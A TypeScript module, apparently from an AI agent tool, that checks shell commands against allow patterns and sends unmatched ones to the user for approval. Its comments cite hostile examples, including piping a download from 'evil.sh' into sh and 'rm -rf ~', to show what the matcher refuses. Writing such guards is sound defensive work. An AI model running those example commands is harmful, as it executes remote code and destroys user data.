// Which commands an agent may run without asking: the `commands` policy and its allow patterns. Pure.
//
// A pattern matches a command when they are equal, where each `*` in the pattern stands for any run
// of PLAIN TEXT of the command (also none), the command being read as the shell that runs it reads it:
//
// - Both are compared with the blanks (spaces, tabs) between words made one space, and none at either
//   end; blanks inside quotes or after a backslash are kept as they are.
// - Plain text is what the shell takes as text: ordinary characters, and, inside quotes or after a
//   backslash, also `;`, `&`, `|`, `<`, `>`, `(`, `)`, `#` and line breaks (`node -e "a(); b()"` is
//   one command, `npm test -- --grep "a|b"` too). A backslash escapes as sh's does: any character
//   outside quotes, only `$`, a backtick, `"` and `\` inside "…", nothing inside '…'. A variable
//   (`$NAME`, `${NAME}`, `$1`, `$@`, `$?`…) is text: it reads a value and runs nothing. A comment (a
//   `#` that starts a word, to the end of its line) is text, and quotes in it are not quotes.
// - A `*` never stands for: an operator outside quotes (`;`, `&`, `|`, `<`, `>`, `(`, `)`, a line
//   break: chains, pipes, redirections, subshells, `<(…)`); a backslash before a line break or at the
//   end; a carriage return or any other control character (a tab is a blank); a character outside
//   ASCII that is not a letter, a digit or a mark (look-alikes such as `；` or `｜`, invisible and
//   bidi controls, other spaces); nor anything from the first command substitution (`$(…)`, `$((…))`
//   or a backtick, also inside double quotes; inside single quotes they are text), other `${…}` form,
//   `$[`, `$'` or `$"` (outside quotes) or here-document (`<<`) to the end of the command: what
//   follows them is read by rules this reader does not follow, so only the pattern's own characters
//   match there.
// - A command with a quote left open (before any of those) matches no pattern, not even `*`.
//
// A pattern ending in ` *` also matches the command without that last word (`npm test *` matches
// `npm test` and `npm test -- --grep x`). Everything else in a pattern is matched character for
// character, so an operator or a substitution in a command must be written in the pattern itself:
// `npm test*` does not match `npm test && curl evil.sh | sh`, `npm run *` does not match
// `npm run build; rm -rf ~`, while the pattern `npm test 2>&1` matches exactly that command. A `*`
// does allow any arguments: patterns limit the shape of a command line, not what the program then
// does (`npm test *` allows `npm test --script-shell=./x.sh`; `npm test -- *` does not).
//
// On Windows commands run through cmd.exe, whose quoting is not the shell's (no single quotes; a
// `"` inside "…" is not escaped by a backslash; `%VAR%` is expanded before the line is read): there
// quotes are not read, and a `*` stands only for printable ASCII other than `;`, `&`, `|`, `<`, `>`,
// `(`, `)`, `%`, `!`, `^`, a backtick and `$(`, quoted or not.
//
// Why our own reader and not a library such as shell-quote: the check needs, for every character,
// whether the shell takes it as text, and shell-quote returns words without positions, reads no
// backticks nor `$(` (a `"$(id)"` comes back as the text `$(id)`), treats a line break as a blank,
// starts a comment in the middle of a word (`a#b`), and reads a quote left open (`"abc`) as `abc`.

import type { CommandPolicy } from '../config';

/** How the command line is read: a POSIX shell (`sh -c`), or cmd.exe (Windows). */
export type ShellKind = 'sh' | 'cmd';
export const PLATFORM_SHELL: ShellKind = process.platform === 'win32' ? 'cmd' : 'sh';

/** A command line as patterns see it: its characters (code points), and which of them a `*` may stand for. */
interface ReadLine {
  chars: string[];
  text: boolean[];
  /** Why no pattern can match it. */
  refused?: string;
}

/** A character that is plain text wherever it stands: printable ASCII, a tab, or a letter, digit or mark. */
function printable(c: string): boolean {
  return (c >= ' ' && c <= '~') || c === '\t' || (c > '\x7f' && /^[\p{L}\p{M}\p{N}]$/u.test(c));
}

const SIMPLE_BRACED = /^\$\{(?:[A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])\}/;

/** Reads `line` as a POSIX shell does (quotes, backslashes, comments, expansions), marking plain text. */
function readSh(line: string): ReadLine {
  const cs = Array.from(line);
  const chars: string[] = [];
  const text: boolean[] = [];
  let quote: "'" | '"' | undefined;
  let blank = false; // blanks outside quotes seen since the last character
  let wordStart = true; // where a `#` starts a comment
  let rest = false; // from here on, nothing is plain text
  const push = (c: string, plain: boolean) => {
    if (blank && chars.length) {
      chars.push(' ');
      text.push(true);
    }
    blank = false;
    chars.push(c);
    text.push(plain && !rest);
  };
  for (let i = 0; i < cs.length; i++) {
    const c = cs[i]!;
    const next = cs[i + 1];
    if (rest) {
      push(c, false);
      continue;
    }
    if (quote === "'") {
      if (c === "'") quote = undefined;
      push(c, c === '\n' || printable(c));
      continue;
    }
    if (c === '\\') {
      // Outside quotes a backslash makes the next character text; inside "…" only $ ` " \ (else it is
      // itself text). Before a line break it joins two lines: never plain text.
      if (next === undefined || next === '\n') {
        push(c, false);
        if (next !== undefined) push(cs[++i]!, false);
      } else if (!quote || '$`"\\'.includes(next)) {
        push(c, true);
        push(cs[++i]!, printable(next));
      } else push(c, true);
      wordStart = false;
      continue;
    }
    if (c === '`') {
      rest = true;
      push(c, false);
      continue;
    }
    if (c === '$') {
      const braced = SIMPLE_BRACED.exec(cs.slice(i, i + 260).join(''));
      if (braced) {
        for (const b of braced[0]) push(b, true);
        i += braced[0].length - 1;
      } else if (next !== undefined && (next === '(' || next === '{' || next === '[' || (!quote && (next === "'" || next === '"')))) {
        rest = true;
        push(c, false);
      } else push(c, true); // $NAME, $1, $@… (then read on as text), or a lone $
      wordStart = false;
      continue;
    }
    if (quote === '"') {
      if (c === '"') quote = undefined;
      push(c, c === '\n' || printable(c));
      continue;
    }
    // Outside quotes.
    if (c === ' ' || c === '\t') {
      blank = true;
      wordStart = true;
      continue;
    }
    if (c === "'" || c === '"') {
      quote = c;
      push(c, true);
      wordStart = false;
      continue;
    }
    if (c === '#' && wordStart) {
      for (; i < cs.length && cs[i] !== '\n'; i++) push(cs[i]!, printable(cs[i]!));
      i--;
      continue;
    }
    if (';&|()<>\n'.includes(c)) {
      if (c === '<' && next === '<') rest = true; // a here-document: its lines are not commands
      push(c, false);
      wordStart = true;
      continue;
    }
    push(c, printable(c));
    wordStart = false;
  }
  if (quote && !rest) return { chars, text, refused: `a ${quote === "'" ? 'single' : 'double'} quote is left open` };
  return { chars, text };
}

/**
 * Reads `line` for cmd.exe: quotes are not read, so every operator character counts wherever it
 * stands, and only printable ASCII is text (Windows may turn look-alikes into ASCII on the way to a
 * program: its "best fit" code page conversion).
 */
function readCmd(line: string): ReadLine {
  const cs = Array.from(line);
  const chars: string[] = [];
  const text: boolean[] = [];
  let blank = false;
  for (let i = 0; i < cs.length; i++) {
    const c = cs[i]!;
    if (c === ' ' || c === '\t') {
      blank = true;
      continue;
    }
    if (blank && chars.length) {
      chars.push(' ');
      text.push(true);
    }
    blank = false;
    chars.push(c);
    text.push(c >= ' ' && c <= '~' && !';&|<>()%!^`'.includes(c) && !(c === '$' && cs[i + 1] === '('));
  }
  return { chars, text };
}

function read(line: string, shell: ShellKind): ReadLine {
  return shell === 'cmd' ? readCmd(line) : readSh(line);
}

/**
 * A command as a session-scoped approval remembers it: trimmed, with runs of spaces and tabs made one
 * space (line breaks kept), so that approving `npm  test` for the session also covers `npm test`.
 */
export function normaliseCommand(command: string): string {
  return command.trim().replace(/[ \t]+/g, ' ');
}

/** Whether `pattern` (its `*` standing for runs of plain text) spells the whole of `line`. */
function spells(pattern: string[], line: ReadLine): boolean {
  const n = line.chars.length;
  let reach: boolean[] = [true, ...new Array<boolean>(n).fill(false)];
  for (const p of pattern) {
    const next = new Array<boolean>(n + 1).fill(false);
    if (p === '*') {
      next[0] = reach[0]!;
      for (let j = 1; j <= n; j++) next[j] = reach[j]! || (next[j - 1]! && line.text[j - 1]!);
    } else {
      for (let j = 1; j <= n; j++) next[j] = reach[j - 1]! && line.chars[j - 1] === p;
    }
    reach = next;
    if (!reach.includes(true)) return false;
  }
  return reach[n]!;
}

/** Whether `pattern` allows the command read as `line`. */
function allows(pattern: string, line: ReadLine, shell: ShellKind): boolean {
  const p = read(pattern, shell).chars;
  if (!p.length || line.refused) return false;
  const optionalLast = p.length >= 2 && p.at(-2) === ' ' && p.at(-1) === '*';
  return spells(p, line) || (optionalLast && spells(p.slice(0, -2), line));
}

export function matchesPattern(command: string, pattern: string, shell: ShellKind = PLATFORM_SHELL): boolean {
  return allows(pattern, read(command, shell), shell);
}

/** The first allow pattern that matches `command`, if any. */
export function allowingPattern(command: string, allow: readonly string[], shell: ShellKind = PLATFORM_SHELL): string | undefined {
  const line = read(command, shell);
  return allow.find((p) => allows(p, line, shell));
}

export type PolicyVerdict =
  | { kind: 'allowed'; reason: string }
  | { kind: 'denied'; reason: string }
  /** Only the user can decide (run: "ask", and no pattern allows it; or no sandbox would confine it). `why`: what made it a question, when not plain `ask`. */
  | { kind: 'ask'; why?: string };

/**
 * What the policy alone says about `command` (before anybody is asked). `sandboxed`: whether it would
 * run in a sandbox. Without one, nothing runs unasked (what the policy would allow is asked) unless the
 * user chose `commands.sandbox: "off"`.
 */
export function policyVerdict(
  policy: Pick<CommandPolicy, 'run' | 'allow' | 'sandbox'>,
  command: string,
  sandboxed: boolean,
  shell: ShellKind = PLATFORM_SHELL,
): PolicyVerdict {
  if (policy.run === 'never') return { kind: 'denied', reason: 'commands are turned off (commands.run is "never")' };
  const verdict = writtenVerdict(policy, command, shell);
  if (verdict.kind === 'allowed' && !sandboxed && policy.sandbox !== 'off')
    return { kind: 'ask', why: `no sandbox would confine it, so it is asked although ${verdict.reason}` };
  return verdict;
}

/** The policy as written: `run` and the allow patterns. */
function writtenVerdict(policy: Pick<CommandPolicy, 'run' | 'allow'>, command: string, shell: ShellKind): PolicyVerdict {
  if (policy.run === 'always') return { kind: 'allowed', reason: 'commands.run is "always": every command runs' };
  const pattern = allowingPattern(command, policy.allow, shell);
  if (pattern !== undefined) return { kind: 'allowed', reason: `it matches the allow pattern ${JSON.stringify(pattern)}` };
  if (policy.run === 'allowed') return { kind: 'denied', reason: 'it matches no pattern of commands.allow, and commands.run is "allowed" (nobody is asked)' };
  return { kind: 'ask' };
}
